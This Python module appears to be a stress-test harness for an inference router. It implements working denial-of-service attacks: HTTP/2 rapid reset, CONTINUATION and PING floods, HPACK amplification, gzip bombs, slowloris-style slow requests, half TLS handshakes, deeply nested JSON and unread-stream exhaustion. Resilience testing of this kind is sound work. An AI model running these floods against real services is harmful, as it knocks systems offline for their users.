"""What a hostile client does to a router, one function for each way. Each ends after some seconds, and counts.

A connection that the router ends is replaced by a new one, so that an attack goes on.
"""

import asyncio
import gzip
import json
import os
import socket
import ssl
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field, replace
from functools import cache
from typing import Any

from floods import http2

from octavo.v1 import inference_pb2

GENERATE = "/octavo.v1.Inference/Generate"
COMPLETE = "/octavo.v1.Inference/Complete"
GONE = (OSError, EOFError, asyncio.TimeoutError)
CHUNK = 16_384
CERTIFICATE = os.environ.get("FLOOD_CERTIFICATE", "")
KEY = f"Bearer {os.environ.get('FLOOD_KEY', '')}".encode()  # of a tenant, for what only tenants can do


@dataclass
class Target:
    """The router that is attacked, how long, and how hard."""

    grpc: tuple[str, int]
    http: tuple[str, int]
    seconds: float
    scale: int  # connections, where an attack is about connections
    tls: bool = False
    until: float = 0.0
    counts: dict[str, int] = field(default_factory=dict)

    def count(self, what: str, number: int = 1) -> None:
        self.counts[what] = self.counts.get(what, 0) + number

    def context(self, address: tuple[str, int]) -> ssl.SSLContext | None:
        """For a connection to this address. It shows the certificate of a client, if there is one."""
        return tls_context("h2" if address == self.grpc else "http/1.1") if self.tls else None

    @property
    def going_on(self) -> bool:
        return time.monotonic() < self.until


Attack = Callable[[Target], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}
TLS_ATTACKS: dict[str, Attack] = {}  # on what comes before TLS
POST = (
    b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\nauthorization: "
    + KEY
    + b"\r\n"
)
HEAD = POST + b"content-length: %d\r\n\r\n"


@cache
def tls_context(protocol: str) -> ssl.SSLContext:
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([protocol])
    if CERTIFICATE:
        made.load_cert_chain(CERTIFICATE, os.environ["FLOOD_CERTIFICATE_KEY"])
    return made


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def tls_attack(function: Attack) -> Attack:
    TLS_ATTACKS[function.__name__.replace("_", "-")] = function
    return function


@asynccontextmanager
async def connected(
    target: Target, address: tuple[str, int], first: bytes = b"", *, small: bool = False, plain: bool = False
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection on which `first` has been sent. `small`: it buffers next to nothing of what it does not read.

    Over TLS if that is what the router speaks, unless it is to be `plain`.
    """
    sock = socket.socket()
    if small:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, address), 20)
    except BaseException:
        sock.close()
        raise
    secured: dict[str, Any] = {}
    if context := None if plain else target.context(address):
        secured = {"ssl": context, "server_hostname": "localhost", "ssl_handshake_timeout": 20}
    reader, writer = await asyncio.open_connection(sock=sock, limit=4096, **secured)
    target.count("connections")
    try:
        writer.write(first)
        yield reader, writer
    finally:
        writer.transport.abort()


async def held(target: Target, address: tuple[str, int], first: bytes, *, plain: bool = False) -> None:
    """Connections that are opened, say `first`, and stay."""
    gate = asyncio.Semaphore(100)

    async def hold() -> None:
        while target.going_on:
            with suppress(*GONE):
                async with gate:
                    context = connected(target, address, first, plain=plain)
                    reader, _ = await context.__aenter__()
                try:
                    while target.going_on:
                        with suppress(TimeoutError):
                            if not await asyncio.wait_for(reader.read(4096), max(0.1, target.until - time.monotonic())):
                                break
                finally:
                    await context.__aexit__(None, None, None)
                target.count("ended by the router", int(target.going_on))
            await asyncio.sleep(1.0 if target.going_on else 0)

    await asyncio.gather(*(hold() for _ in range(target.scale)))


async def streamed(target: Target, connections: int, next_part: Callable[[int], bytes], first: bytes = b"") -> None:
    """Connections over HTTP/2 that send part after part, as fast as they are read."""

    async def flood() -> None:
        while target.going_on:
            with suppress(*GONE):
                async with connected(target, target.grpc, http2.hello() + first) as (reader, writer):
                    number, draining = 0, asyncio.create_task(drained(reader))
                    try:
                        while target.going_on and not draining.done():
                            writer.write(next_part(number))
                            await asyncio.wait_for(writer.drain(), 5)
                            number += 1
                            target.count("parts")
                    finally:
                        draining.cancel()
            await asyncio.sleep(0.02)

    await asyncio.gather(*(flood() for _ in range(connections)))


async def drained(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


# Connections


@attack
async def idle_grpc(target: Target) -> None:
    """Connections that have greeted, and call nothing."""
    await held(target, target.grpc, http2.hello())


@attack
async def mute_grpc(target: Target) -> None:
    """Connections that never finish the handshake."""
    await held(target, target.grpc, http2.PREFACE[:9])


@attack
async def idle_http(target: Target) -> None:
    await held(target, target.http, b"")


@attack
async def half_requests(target: Target) -> None:
    """Requests over HTTP without their end."""
    await held(target, target.http, b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\nx-half: ")


# TLS


@tls_attack
async def mute_tls(target: Target) -> None:
    """Connections that never begin the handshake."""
    half = replace(target, scale=target.scale // 2)
    await asyncio.gather(*(held(half, address, b"", plain=True) for address in (target.grpc, target.http)))


@tls_attack
async def half_hellos(target: Target) -> None:
    """Connections that begin a handshake of 16 kB and do not go on."""
    half, first = replace(target, scale=target.scale // 2), b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03"
    await asyncio.gather(*(held(half, address, first, plain=True) for address in (target.grpc, target.http)))


@tls_attack
async def handshakes(target: Target) -> None:
    """Whole handshakes, one after the other, on 32 connections at a time."""

    async def shake(address: tuple[str, int]) -> None:
        while target.going_on:
            with suppress(*GONE):
                async with connected(target, address):
                    target.count("handshakes")
            await asyncio.sleep(0.01)

    await asyncio.gather(*(shake(address) for address in (target.grpc, target.http) * 16))


@tls_attack
async def plain_words(target: Target) -> None:
    """What is no TLS: requests in plain words, and noise."""

    async def talk(address: tuple[str, int], words: bytes) -> None:
        while target.going_on:
            with suppress(*GONE):
                async with connected(target, address, words, plain=True) as (reader, _):
                    await asyncio.wait_for(drained(reader), 5)
            await asyncio.sleep(0.01)

    noise = (HEAD % 2 + b"{}", http2.hello(), os.urandom(CHUNK), b"\x16\x03\x01" + os.urandom(CHUNK))
    await asyncio.gather(*(talk(address, words) for address in (target.grpc, target.http) for words in noise * 4))


@tls_attack
async def small_records(target: Target) -> None:
    """A header of which each byte is a record of its own."""
    first = POST + b"x-small: "
    await sent(target, 32, lambda number: b"x" if number else first)


# Frames


@attack
async def rapid_reset(target: Target) -> None:
    """Calls that are cancelled in the packet that makes them."""
    headers = http2.call_headers(GENERATE)

    def part(number: int) -> bytes:
        found = []
        for stream in range(200 * number + 1, 200 * (number + 1), 2):
            found.append(http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream))
            found.append(http2.frame(http2.RST_STREAM, http2.CANCEL, stream=stream))
        return b"".join(found)

    await streamed(target, 8, part)


@attack
async def pings(target: Target) -> None:
    await streamed(target, 8, lambda _: http2.frame(http2.PING, b"12345678") * 500)


@attack
async def settings(target: Target) -> None:
    await streamed(target, 8, lambda _: http2.frame(http2.SETTINGS, b"\0\4\0\0\xff\xff") * 500)


@attack
async def empty_frames(target: Target) -> None:
    """Parts of a message without a byte in them, for ever."""
    headers = http2.frame(http2.HEADERS, http2.call_headers(GENERATE), flags=http2.END_HEADERS, stream=1)
    await streamed(target, 8, lambda _: http2.frame(http2.DATA, stream=1) * 1000, headers)


@attack
async def endless_headers(target: Target) -> None:
    """A header block that never ends."""
    first = http2.frame(http2.HEADERS, http2.call_headers(GENERATE), stream=1)
    more = http2.literal(b"x-more", b"x" * 16_000)
    await streamed(target, 8, lambda _: http2.frame(http2.CONTINUATION, more, stream=1), first)


@attack
async def repeated_headers(target: Target) -> None:
    """A large header that is named 10,000 times by one byte each."""
    large = http2.literal(b"x-large", b"x" * 3900, indexed=True)

    def part(number: int) -> bytes:
        block = http2.call_headers(GENERATE) + (large if number == 0 else b"") + b"\xbe" * 10_000
        return http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=2 * number + 1)

    await streamed(target, 8, part)


@attack
async def garbage(target: Target) -> None:
    await streamed(target, 8, lambda _: os.urandom(CHUNK))


# Messages


@attack
async def zipped_bombs(target: Target) -> None:
    """Messages of 20 kB that are 20 MB when they are unpacked."""
    bomb = gzip.compress(b"\0" * 20_000_000, 6)
    headers = http2.call_headers(COMPLETE, (b"grpc-encoding", b"gzip"))

    def part(number: int) -> bytes:
        stream, data = 2 * number + 1, http2.message(bomb, compressed=True)
        frames = [http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream)]
        frames += [http2.frame(http2.DATA, data[i : i + CHUNK], stream=stream) for i in range(0, len(data), CHUNK)]
        return b"".join(frames) + http2.frame(http2.DATA, flags=http2.END_STREAM, stream=stream)

    await streamed(target, 4, part)


@attack
async def long_messages(target: Target) -> None:
    """Messages that say they have 4 GB, and come for ever; and many that stay just below the limit."""
    headers = http2.call_headers(COMPLETE)

    def part(number: int) -> bytes:
        stream = 2 * (number // 300) + 1
        begin = b""
        if number % 300 == 0:
            begin = http2.frame(http2.HEADERS, headers, flags=http2.END_HEADERS, stream=stream)
            length = [2**32 - 1, 4_100_000][number // 300 % 2]
            begin += http2.frame(http2.DATA, http2.message(b"", length=length), stream=stream)
        return begin + http2.frame(http2.DATA, b"\x1a" * CHUNK, stream=stream)

    await streamed(target, 8, part)


# Requests


def generate_call(stream: int, max_tokens: int) -> bytes:
    request = inference_pb2.GenerateRequest(text="x" * 200)
    request.sampling.max_tokens, request.sampling.ignore_eos = max_tokens, True
    block = http2.call_headers(GENERATE, (b"authorization", KEY))
    headers = http2.frame(http2.HEADERS, block, flags=http2.END_HEADERS, stream=stream)
    body = http2.message(request.SerializeToString())
    return headers + http2.frame(http2.DATA, body, flags=http2.END_STREAM, stream=stream)


@attack
async def unread_calls(target: Target) -> None:
    """Streams of a client that lets the server send nothing."""
    calls = b"".join(generate_call(2 * i + 1, 2000) for i in range(50))
    count, target.scale = target.scale, max(4, target.scale // 50)
    await held(target, target.grpc, http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + calls)
    target.scale = count


@attack
async def calls(target: Target) -> None:
    """As many calls as connections carry, each with work to do."""
    await streamed(target, 16, lambda number: generate_call(2 * number + 1, 50))


@attack
async def posts(target: Target) -> None:
    """As many requests over HTTP as connections carry, one after the other, whose answers are not awaited."""
    body = json.dumps({"prompt": "x" * 200, "max_tokens": 20}).encode()
    request = HEAD % len(body) + body
    await sent(target, target.scale, lambda _: request * 20, pause_s=0.1)


async def sent(
    target: Target, connections: int, part: Callable[[int], bytes], *, pause_s: float = 0.0, reads: bool = True
) -> None:
    """Connections over HTTP that send part after part."""
    gate = asyncio.Semaphore(100)

    async def send() -> None:
        while target.going_on:
            with suppress(*GONE):
                await gate.acquire()
                try:
                    context = connected(target, target.http, small=not reads)
                    reader, writer = await context.__aenter__()
                finally:
                    gate.release()
                draining, number = asyncio.create_task(drained(reader) if reads else asyncio.sleep(1e6)), 0
                try:
                    while target.going_on and not draining.done() and not writer.is_closing():
                        writer.write(part(number))
                        await asyncio.wait_for(writer.drain(), 5)
                        number += 1
                        target.count("parts")
                        await asyncio.sleep(pause_s)
                finally:
                    draining.cancel()
                    await context.__aexit__(None, None, None)
            await asyncio.sleep(0.05)

    await asyncio.gather(*(send() for _ in range(connections)))


@attack
async def slow_headers(target: Target) -> None:
    """A header that comes a byte at a time."""
    first = POST + b"x-slow: "
    await sent(target, target.scale, lambda number: b"x" if number else first, pause_s=0.5)


@attack
async def slow_bodies(target: Target) -> None:
    """A body of 4 MB that comes a byte at a time."""
    first = HEAD % 4_000_000 + b'{"prompt": "'
    await sent(target, target.scale, lambda number: b"x" if number else first, pause_s=0.5)


@attack
async def large_bodies(target: Target) -> None:
    """Bodies of 4 MB of which the last byte never comes."""
    piece = b"x" * 65536

    def part(number: int) -> bytes:
        return HEAD % 4_194_304 + b'{"prompt": "' if number == 0 else piece if number < 63 else b""

    await sent(target, target.scale, part, pause_s=0.05)


@attack
async def deep_bodies(target: Target) -> None:
    """JSON that is nested a million times, and JSON with a million parts."""
    bodies = [b"[" * 1_000_000, b'{"a":' * 500_000, b'{"prompt":[' + b"1," * 1_000_000 + b"1]}"]
    requests = [HEAD % len(body) + body for body in bodies]
    await sent(target, min(target.scale, 32), lambda number: requests[number % 3])


@attack
async def trailers(target: Target) -> None:
    """Headers after a body, for ever."""
    first = POST + b"transfer-encoding: chunked\r\n\r\n1\r\n{\r\n0\r\n"
    more = b"".join(b"x-%d: %b\r\n" % (i, b"y" * 200) for i in range(300))
    await sent(target, 16, lambda number: more if number else first)


@attack
async def chunks(target: Target) -> None:
    """A body in chunks of a byte, with a name of 2 kB each, for ever."""
    first = POST + b"transfer-encoding: chunked\r\n\r\n"
    more = (b"1;" + b"n" * 2000 + b"\r\nx\r\n") * 30
    await sent(target, 16, lambda number: more if number else first)


@attack
async def unread_answers(target: Target) -> None:
    """Streams over HTTP of clients that read nothing."""
    body = json.dumps({"prompt": "x", "max_tokens": 2000, "stream": True, "ignore_eos": True}).encode()
    request = HEAD % len(body) + body
    await sent(target, target.scale, lambda number: b"" if number else request, pause_s=1.0, reads=False)


@attack
async def unread_pages(target: Target) -> None:
    """Thousands of requests on a connection whose answers are not read."""
    await sent(
        target, 32, lambda _: (POST.replace(b"POST /v1/completions", b"GET /v1/models") + b"\r\n") * 500, reads=False
    )
